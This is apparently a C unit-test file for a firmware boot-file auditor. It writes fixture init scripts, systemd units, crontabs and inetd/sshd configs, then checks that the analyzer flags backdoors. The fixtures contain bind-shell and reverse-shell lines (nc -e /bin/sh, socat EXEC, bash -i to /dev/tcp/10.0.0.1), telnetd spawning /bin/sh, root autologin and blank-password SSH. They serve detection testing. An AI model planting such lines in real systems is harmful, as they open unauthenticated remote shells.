/* services: boot files written at test time (BusyBox and sysvinit inittab,
 * rcS and init.d scripts with continuations, variables, wrappers and
 * here-documents, OpenWrt procd scripts and UCI config, systemd units with
 * and without enabling links, crontabs, inetd.conf, sshd_config), packed with
 * tar, scanned and audited with only this analyzer. The oracle is the fixture:
 * which line of which file starts which service, and the exact set of
 * findings (nothing more). */
#include "../harness.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <jansson.h>


/* Write `text` at root/<path>, creating its directories. */
static void put(const char *root, const char *path, const char *text)
{
	char full[1024];
	snprintf(full, sizeof(full), "%s%s", root, path);
	gbt_sh("mkdir -p \"$(dirname '%s')\"", full);
	gbt_write_file(full, text, strlen(text));
}

static struct gb_audit *audit_dir(const char *root, struct gb_scan **ret_scan)
{
	return gbt_audit_dir(root, "services", ret_scan);
}

static void dump(const struct gb_audit *a)
{
	gbt_dump_findings(a);
}

/* The finding with that rule, path and line, or NULL. */
static const json_t *find(const struct gb_audit *a, const char *rule, const char *path, int line)
{
	size_t i;
	const json_t *f;
	json_array_foreach(gb_audit_section(a, "findings"), i, f)
	{
		if (strcmp(json_string_value(json_object_get(f, "rule")), rule) == 0 &&
		    strcmp(json_string_value(json_object_get(f, "path")), path) == 0 &&
		    json_integer_value(json_object_get(f, "line")) == line)
			return f;
	}
	return NULL;
}

/* Assert a finding and its severity; returns its details. */
static const json_t *expect(const struct gb_audit *a, const char *rule, const char *path, int line, const char *sev)
{
	const json_t *f = find(a, rule, path, line);
	if (!f) {
		fprintf(stderr, "missing %s at %s:%d\n", rule, path, line);
		dump(a);
	}
	assert_non_null(f);
	assert_string_equal(json_string_value(json_object_get(f, "severity")), sev);
	assert_true(strstr(json_string_value(json_object_get(f, "message")), path) != NULL);
	return json_object_get(f, "details");
}

static void expect_str(const json_t *d, const char *key, const char *value)
{
	const char *v = json_string_value(json_object_get(d, key));
	if (!v || strcmp(v, value) != 0)
		fprintf(stderr, "details.%s: expected %s, got %s\n", key, value, v ? v : "(none)");
	assert_non_null(v);
	assert_string_equal(v, value);
}

static void expect_port(const json_t *d, int port)
{
	if (port < 0) {
		assert_null(json_object_get(d, "port"));
		return;
	}
	assert_int_equal(json_integer_value(json_object_get(d, "port")), port);
}

static void expect_count(const struct gb_audit *a, size_t n)
{
	size_t got = json_array_size(gb_audit_section(a, "findings"));
	if (got != n) {
		fprintf(stderr, "expected %zu findings, got %zu\n", n, got);
		dump(a);
	}
	assert_int_equal(got, n);
}

static void test_inittab(void **state)
{
	(void)state;
	put("it", "/etc/inittab",
	    "::sysinit:/etc/init.d/rcS\n"                                        /* 1 */
	    "::askfirst:-/bin/sh\n"                                              /* 2 low */
	    "# ::respawn:/usr/sbin/telnetd -l /bin/sh\n"                         /* 3 comment */
	    "::respawn:/usr/sbin/telnetd -F -l /bin/sh\n"                        /* 4 critical */
	    "ttyS0::respawn:/sbin/getty --autologin root -L ttyS0 115200 vt100\n" /* 5 */
	    "T1:23:respawn:/sbin/agetty -a admin 115200 ttyS1\n"                 /* 6 */
	    "ttyS2::respawn:/bin/sh\n"                                           /* 7 */
	    "::shutdown:/usr/sbin/telnetd -l /bin/sh\n"                          /* 8 not at boot */
	    "::respawn:/usr/sbin/telnetd -F -p 2323\n"                           /* 9 high */
	    "::sysinit:/bin/sh /etc/init.d/rcS\n"                                /* 10 a script */
	    "tty1::respawn:/sbin/getty 38400 tty1\n"                             /* 11 login */
	    "id:3:initdefault:\n");                                              /* 12 */
	struct gb_scan *scan;
	struct gb_audit *a = audit_dir("it", &scan);
	const json_t *d;

	d = expect(a, "service.autologin-console", "/etc/inittab", 2, "low");
	expect_str(d, "action", "askfirst");
	expect_str(d, "tty", "console");
	d = expect(a, "service.telnet", "/etc/inittab", 4, "critical");
	expect_str(d, "login", "/bin/sh");
	expect_str(d, "source", "inittab");
	expect_str(d, "command", "/usr/sbin/telnetd -F -l /bin/sh");
	expect_port(d, -1);
	d = expect(a, "service.autologin-console", "/etc/inittab", 5, "high");
	expect_str(d, "user", "root");
	expect_str(d, "tty", "ttyS0");
	d = expect(a, "service.autologin-console", "/etc/inittab", 6, "high");
	expect_str(d, "user", "admin");
	expect_str(d, "tty", "ttyS1");
	d = expect(a, "service.autologin-console", "/etc/inittab", 7, "high");
	expect_str(d, "tty", "ttyS2");
	d = expect(a, "service.telnet", "/etc/inittab", 9, "high");
	expect_port(d, 2323);
	expect_count(a, 6);
	gb_audit_free(a);
	gb_scan_free(scan);
}

static void test_scripts(void **state)
{
	(void)state;
	put("sc", "/etc/init.d/rcS",
	    "#!/bin/sh\n"                                                       /* 1 */
	    "mount -t proc proc /proc\n"                                        /* 2 */
	    "TELNETD=/usr/sbin/telnetd\n"                                       /* 3 */
	    "ARGS=\"-l /bin/sh\"\n"                                             /* 4 */
	    "# /usr/sbin/telnetd -l /bin/sh\n"                                  /* 5 */
	    "$TELNETD $ARGS -p 2323 &\n"                                        /* 6 */
	    "echo \"telnetd -l /bin/sh\" > /tmp/x\n"                            /* 7 */
	    "cat <<EOF > /etc/motd\n"                                           /* 8 */
	    "nc -l -p 1 -e /bin/sh\n"                                           /* 9 */
	    "EOF\n"                                                             /* 10 */
	    "/usr/bin/nc -ll \\\n"                                              /* 11 */
	    "   -p 31337 -e /bin/sh &\n"                                        /* 12 */
	    "busybox telnetd -l /bin/login\n"                                   /* 13 */
	    "start-stop-daemon -S -b -x /usr/bin/gdbserver -- --multi :1234\n"  /* 14 */
	    "tftpd -c -u root /srv &\n"                                         /* 15 */
	    "dropbear -R -B -p 22\n"                                            /* 16 */
	    "[ -x /usr/sbin/utelnetd ] && exec /usr/sbin/utelnetd -l /bin/ash -d\n" /* 17 */
	    "socat TCP-LISTEN:5555,reuseaddr,fork EXEC:/bin/bash\n"             /* 18 */
	    "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc -l 7777 > /tmp/f\n" /* 19 */
	    "bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'\n"                /* 20 */
	    "command -v telnetd >/dev/null\n"                                   /* 21 */
	    "start-stop-daemon -K -x /usr/sbin/telnetd\n"                       /* 22 */
	    "/usr/sbin/dropbear -R -p 22\n"                                     /* 23 */
	    "remote_debug &\n"                                                  /* 24 */
	    "nc 10.0.0.9 80 < /etc/version\n"                                   /* 25 */
	    "tftpd -u nobody /srv\n");                                          /* 26 */
	put("sc", "/etc/rc.local", "#!/bin/sh\nsu -c \"/usr/sbin/telnetd -l /bin/sh -p 24\" root\nexit 0\n");
	put("sc", "/usr/share/doc/example.sh", "telnetd -l /bin/sh\n"); /* not started at boot */
	struct gb_scan *scan;
	struct gb_audit *a = audit_dir("sc", &scan);
	const json_t *d;
	const char *rcs = "/etc/init.d/rcS";

	d = expect(a, "service.telnet", rcs, 6, "critical");
	expect_port(d, 2323);
	expect_str(d, "command", "/usr/sbin/telnetd -l /bin/sh -p 2323");
	d = expect(a, "service.bind-shell", rcs, 11, "critical");
	expect_port(d, 31337);
	expect_str(d, "mode", "listen");
	expect_str(d, "program", "/bin/sh");
	d = expect(a, "service.telnet", rcs, 13, "high");
	expect_str(d, "login", "/bin/login");
	d = expect(a, "service.debug", rcs, 14, "high");
	expect_str(d, "daemon", "gdbserver");
	expect_port(d, 1234);
	d = expect(a, "service.debug", rcs, 15, "high");
	expect_str(d, "daemon", "tftpd");
	d = expect(a, "service.ssh-blank-passwords", rcs, 16, "high");
	expect_port(d, 22);
	d = expect(a, "service.telnet", rcs, 17, "critical");
	expect_str(d, "login", "/bin/ash");
	d = expect(a, "service.bind-shell", rcs, 18, "critical");
	expect_port(d, 5555);
	expect_str(d, "program", "/bin/bash");
	d = expect(a, "service.bind-shell", rcs, 19, "critical");
	expect_port(d, 7777);
	d = expect(a, "service.bind-shell", rcs, 20, "critical");
	expect_port(d, 4444);
	d = expect(a, "service.debug", rcs, 24, "high");
	expect_str(d, "daemon", "remote_debug");
	d = expect(a, "service.telnet", "/etc/rc.local", 2, "critical");
	expect_port(d, 24);
	expect_count(a, 12);
	gb_audit_free(a);
	gb_scan_free(scan);
}

static void test_procd_systemd_cron(void **state)
{
	(void)state;
	const char *r = "ps";
	put(r, "/etc/init.d/telnet",
	    "#!/bin/sh /etc/rc.common\n"                                /* 1 */
	    "START=50\n"                                                /* 2 */
	    "USE_PROCD=1\n"                                             /* 3 */
	    "PROG=/usr/sbin/telnetd\n"                                  /* 4 */
	    "start_service() {\n"                                       /* 5 */
	    "\tprocd_open_instance\n"                                   /* 6 */
	    "\tprocd_set_param command \"$PROG\" -F -l /bin/login.sh\n" /* 7 */
	    "\tprocd_append_param command -p 2323\n"                    /* 8 */
	    "\tprocd_close_instance\n"                                  /* 9 */
	    "}\n");
	put(r, "/etc/init.d/dropbear",
	    "#!/bin/sh /etc/rc.common\n"
	    "USE_PROCD=1\n"
	    "PROG=/usr/sbin/dropbear\n"
	    "start_service() {\n"
	    "\tprocd_set_param command \"$PROG\" -F -P /var/run/dropbear.pid\n"
	    "\t[ \"${BlankPassword}\" -eq 1 ] && procd_append_param command -B\n"
	    "}\n");
	put(r, "/etc/config/dropbear",
	    "config dropbear\n"              /* 1 */
	    "\toption PasswordAuth 'on'\n"   /* 2 */
	    "\toption BlankPassword '1'\n"   /* 3 */
	    "\toption Port '22'\n");         /* 4 */
	put(r, "/lib/systemd/system/debug.service",
	    "[Unit]\nDescription=debug\n\n[Service]\n"       /* 1-4 */
	    "ExecStart=/usr/bin/gdbserver --multi :2345\n"   /* 5 */
	    "\n[Install]\nWantedBy=multi-user.target\n");
	put(r, "/lib/systemd/system/telnet-off.service",
	    "[Service]\nExecStart=/usr/sbin/telnetd -F -l /bin/sh\n"); /* 2, not enabled */
	put(r, "/lib/systemd/system/bind.service",
	    "[Service]\n"                        /* 1 */
	    "Type=simple\n"                      /* 2 */
	    "ExecStart=/usr/bin/socat \\\n"      /* 3 */
	    "    TCP-LISTEN:6666,fork EXEC:/bin/sh\n");
	put(r, "/etc/systemd/system/serial-getty@.service.d/autologin.conf",
	    "[Service]\nExecStart=\nExecStart=-/sbin/agetty --autologin root --noclear %I $TERM\n"); /* 3 */
	gbt_sh("mkdir -p %s/etc/systemd/system/multi-user.target.wants %s/etc/systemd/system/getty.target.wants"
	       " && ln -s /lib/systemd/system/debug.service %s/etc/systemd/system/multi-user.target.wants/"
	       " && ln -s /lib/systemd/system/bind.service %s/etc/systemd/system/multi-user.target.wants/"
	       " && ln -s /lib/systemd/system/serial-getty@.service"
	       " %s/etc/systemd/system/getty.target.wants/serial-getty@ttyS0.service",
	       r, r, r, r, r);
	put(r, "/lib/systemd/system/serial-getty@.service",
	    "[Service]\nExecStart=-/sbin/agetty -o '-p -- \\\\u' --keep-baud 115200,57600,38400,9600 %I $TERM\n");
	put(r, "/etc/crontabs/root",
	    "*/5 * * * * /usr/sbin/telnetd -l /bin/sh\n" /* 1 */
	    "# @reboot nc -l -p 1 -e /bin/sh\n"          /* 2 */
	    "@reboot nc -l -p 9001 -e /bin/sh\n");       /* 3 */
	put(r, "/etc/crontab",
	    "SHELL=/bin/sh\n"                                         /* 1 */
	    "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n" /* 2 */
	    "* * * * * root /usr/bin/nc -e /bin/sh 10.0.0.2 4445\n"); /* 3 */
	put(r, "/etc/ssh/sshd_config",
	    "Port 22\n#PermitEmptyPasswords no\nPermitEmptyPasswords yes\n"); /* 3 */
	put(r, "/etc/inetd.conf",
	    "telnet stream tcp nowait root /usr/sbin/telnetd telnetd -i -l /bin/sh\n" /* 1 */
	    "31338 stream tcp nowait root /bin/sh sh -i\n"                            /* 2 */
	    "#ftp stream tcp nowait root /usr/sbin/ftpd ftpd\n");
	struct gb_scan *scan;
	struct gb_audit *a = audit_dir(r, &scan);
	const json_t *d;

	d = expect(a, "service.telnet", "/etc/init.d/telnet", 7, "high");
	expect_str(d, "login", "/bin/login.sh");
	assert_null(find(a, "service.telnet", "/etc/init.d/telnet", 8));
	d = expect(a, "service.ssh-blank-passwords", "/etc/config/dropbear", 3, "high");
	expect_str(d, "source", "uci");
	d = expect(a, "service.debug", "/lib/systemd/system/debug.service", 5, "high");
	expect_port(d, 2345);
	assert_true(json_is_true(json_object_get(d, "enabled")));
	d = expect(a, "service.telnet", "/lib/systemd/system/telnet-off.service", 2, "info");
	assert_true(json_is_false(json_object_get(d, "enabled")));
	d = expect(a, "service.bind-shell", "/lib/systemd/system/bind.service", 3, "critical");
	expect_port(d, 6666);
	d = expect(a, "service.autologin-console", "/etc/systemd/system/serial-getty@.service.d/autologin.conf", 3,
		   "high");
	expect_str(d, "user", "root");
	d = expect(a, "service.telnet", "/etc/crontabs/root", 1, "critical");
	expect_str(d, "source", "cron");
	d = expect(a, "service.bind-shell", "/etc/crontabs/root", 3, "critical");
	expect_port(d, 9001);
	d = expect(a, "service.bind-shell", "/etc/crontab", 3, "critical");
	expect_port(d, 4445);
	expect_str(d, "mode", "connect");
	expect(a, "service.ssh-blank-passwords", "/etc/ssh/sshd_config", 3, "high");
	d = expect(a, "service.telnet", "/etc/inetd.conf", 1, "critical");
	expect_port(d, 23);
	d = expect(a, "service.bind-shell", "/etc/inetd.conf", 2, "critical");
	expect_port(d, 31338);
	expect_count(a, 12);
	gb_audit_free(a);
	gb_scan_free(scan);
}

/* A plain device: nothing above low. */
static void test_clean(void **state)
{
	(void)state;
	const char *r = "cl";
	put(r, "/etc/inittab",
	    "::sysinit:/etc/init.d/rcS\n::askfirst:-/bin/sh\n::ctrlaltdel:/sbin/reboot\n"
	    "::shutdown:/bin/umount -a -r\nttyS0::respawn:/sbin/getty -L ttyS0 115200 vt100\n");
	put(r, "/etc/init.d/rcS",
	    "#!/bin/sh\nmount -t proc proc /proc\nhostname -F /etc/hostname\nsyslogd; klogd\n"
	    "/usr/sbin/dropbear -R -p 22\n/usr/sbin/dnsmasq -C /etc/dnsmasq.conf\n"
	    "for i in /etc/init.d/S??*; do [ -x \"$i\" ] && \"$i\" start; done\n"
	    "if [ -f /etc/telnet.enable ]; then killall telnetd; fi\n"
	    "echo 'nc -l -p 4444 -e /bin/sh' >> /tmp/notes\n"
	    "case \"$1\" in\n  start) start-stop-daemon -S -x /usr/sbin/lighttpd -- -f /etc/lighttpd.conf ;;\n"
	    "  stop) start-stop-daemon -K -x /usr/sbin/telnetd ;;\nesac\n");
	put(r, "/etc/ssh/sshd_config", "PermitRootLogin no\nPermitEmptyPasswords no\n");
	put(r, "/lib/systemd/system/getty@.service", "[Service]\nExecStart=-/sbin/agetty -o '-p -- \\\\u' --noclear - $TERM\n");
	put(r, "/etc/crontabs/root", "0 3 * * * /usr/sbin/logrotate /etc/logrotate.conf\n");
	struct gb_scan *scan;
	struct gb_audit *a = audit_dir(r, &scan);
	expect(a, "service.autologin-console", "/etc/inittab", 2, "low");
	expect_count(a, 1);
	assert_true(gb_audit_max_severity(a) <= GB_SEV_LOW);
	gb_audit_free(a);
	gb_scan_free(scan);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_inittab),
		cmocka_unit_test(test_scripts),
		cmocka_unit_test(test_procd_systemd_cron),
		cmocka_unit_test(test_clean),
	};
	return cmocka_run_group_tests(tests, gbt_setup_tmpdir, gbt_teardown_tmpdir);
}
